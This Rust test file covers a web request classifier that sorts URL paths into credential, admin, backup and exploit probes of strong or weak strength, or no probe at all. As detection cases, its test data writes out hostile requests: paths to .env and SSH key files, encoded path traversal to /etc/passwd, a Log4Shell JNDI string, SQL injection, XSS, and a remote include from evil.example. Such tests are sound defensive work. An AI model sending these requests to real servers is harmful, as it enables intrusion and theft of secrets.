use super::super::{Hints, Method, SitePolicy, Target};
use super::*;
use alloc::string::String;
use proptest::prelude::*;
use rstest::rstest;

#[rstest]
#[case("/.env", ProbeKind::Credential)]
#[case("/app/.env.production", ProbeKind::Credential)]
#[case("/.git/config", ProbeKind::Credential)]
#[case("/.aws/credentials", ProbeKind::Credential)]
#[case("/prod.env", ProbeKind::Credential)]
#[case("/root/.ssh/id_rsa", ProbeKind::Credential)]
#[case("/wp-config.php.bak", ProbeKind::Credential)]
#[case("/actuator/env", ProbeKind::Admin)]
#[case("/phpMyAdmin-5.1/index.php", ProbeKind::Admin)]
#[case("/manager/html", ProbeKind::Admin)]
#[case("/dump.sql", ProbeKind::Backup)]
#[case("/backup.zip", ProbeKind::Backup)]
#[case("/old/www.tar.gz", ProbeKind::Backup)]
#[case("/lib/index.php.bak", ProbeKind::Backup)]
#[case("/index.php~", ProbeKind::Backup)]
#[case("/vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php", ProbeKind::Exploit)]
#[case("/blog/vendor/phpunit/Util/x.php", ProbeKind::Exploit)]
#[case("/HNAP1/", ProbeKind::Exploit)]
#[case("/my_Shell.php", ProbeKind::Exploit)]
#[case("/w00tw00t.at.ISC.SANS.DFind:)", ProbeKind::Exploit)]
#[case("/a/../../etc/passwd", ProbeKind::Exploit)]
#[case("/a/%2e%2e/%2E%2e/b", ProbeKind::Exploit)]
#[case("/a/%252e%252e%252fb", ProbeKind::Exploit)]
#[case("/cgi-bin/%%32%65%%32%65/bin/x", ProbeKind::Exploit)]
#[case("/a%00.html", ProbeKind::Exploit)]
#[case("/?x=${jndi:ldap://a/b}", ProbeKind::Exploit)]
#[case("/?x=%24%7Bjndi:ldap://a/b%7D", ProbeKind::Exploit)]
#[case("/item?id=1+UNION+SELECT+1,2", ProbeKind::Exploit)]
#[case("/item?id=1'%20or%20'1'='1", ProbeKind::Exploit)]
#[case("/search?q=%3Cscript%3Ealert(1)%3C/script%3E", ProbeKind::Exploit)]
#[case("/start.php?lang=http://evil.example/x.txt?", ProbeKind::Exploit)]
#[case("/style.css?v=../../etc/passwd", ProbeKind::Exploit)]
#[case("/Telerik.Web.UI.WebResource.axd?type=rau", ProbeKind::Exploit)]
fn strong_probes_are_known(#[case] target: &str, #[case] kind: ProbeKind) {
    assert_eq!(probe(target), Some(Probe { kind, strength: ProbeStrength::Strong }));
}

#[rstest]
#[case("/wp-login.php", ProbeKind::Admin)]
#[case("/blog/xmlrpc.php", ProbeKind::Admin)]
#[case("/admin", ProbeKind::Admin)]
#[case("/.hidden", ProbeKind::Credential)]
#[case("/schemas/v1/tables.sql", ProbeKind::Backup)]
#[case("/search?q=substr(", ProbeKind::Exploit)]
#[case("/search?q=%22cats%22+or+%22dogs%22", ProbeKind::Exploit)]
#[case("/me/project/blob/main/.gitlab-ci.yml", ProbeKind::Credential)]
#[case("/search?q=<b>bold", ProbeKind::Exploit)]
fn what_owners_and_the_curious_ask_for_too_is_weak(#[case] target: &str, #[case] kind: ProbeKind) {
    assert_eq!(probe(target), Some(Probe { kind, strength: ProbeStrength::Weak }));
}

#[rstest]
#[case("/")]
#[case("/blog/2024/a-walk-in-the-woods.html")]
#[case("/articles/ssh-security/")]
#[case("/.well-known/security.txt")]
#[case("/.well-known/acme-challenge/abc")]
#[case("/blog/tags/c%2B%2B")]
#[case("/wiki/Z%C3%BCrich_(Stadt)")]
#[case("/blog/admin-tips")]
#[case("/environment")]
#[case("/shop/backup-drives")]
#[case("/files/tool-1.0.tar.gz")]
#[case("/search?q=credit+union+selection")]
#[case("/search?q=rock+%26+roll+or+jazz")]
#[case("/search?q=O'Brien")]
#[case("/login?next=https://example.com/a")]
#[case("/login?next=%2Faccount%2Fsettings")]
#[case("/style.css?v=1.2.3")]
#[case("/a...b/c")]
#[case("/gitea/docs")]
#[case("/phpmyadmin/themes/style.css")]
#[case("/blog/phpmyadmin-tutorial")]
#[case("/unauthorized")]
#[case("/docs/struts-guide")]
#[case("/search?q=cats%20and%20dogs")]
fn ordinary_requests_are_no_probes(#[case] target: &str) {
    assert_eq!(probe(target), None);
}

#[test]
fn path_patterns_are_lower_case_and_have_a_first_segment() {
    for rule in &ProbeTable::new().rules {
        assert!(!rule.first.is_empty() && rule.first.len() < 63, "{rule:?}");
        assert!(rule.first.bytes().chain(rule.rest.bytes()).all(|b| !b.is_ascii_uppercase()), "{rule:?}");
        assert!(!rule.first.contains('*') && !rule.rest.contains('*'), "{rule:?}");
    }
}

proptest! {
    #[test]
    fn any_text_is_searched_without_panic(path: String, query: String) {
        probe(&alloc::format!("/{path}?{query}"));
    }

    #[test]
    fn every_path_pattern_is_found_in_any_case(at in any::<prop::sample::Index>(), upper: bool) {
        let table = ProbeTable::new();
        let rule = at.get(&table.rules);
        let path = alloc::format!("/{}{}", rule.first, rule.rest);
        let path = if upper { path.to_ascii_uppercase() } else { path };
        let found = table.by_segments(&path, 0, false).expect("the pattern itself fits");
        prop_assert!(found.strength >= rule.probe.strength);
    }
}

fn probe(target: &str) -> Option<Probe> {
    std::thread_local! {
        static SITE: SitePolicy = SitePolicy::default();
    }
    SITE.with(|site| Target::read(site, Method::Get, target, Hints::default()).probe)
}
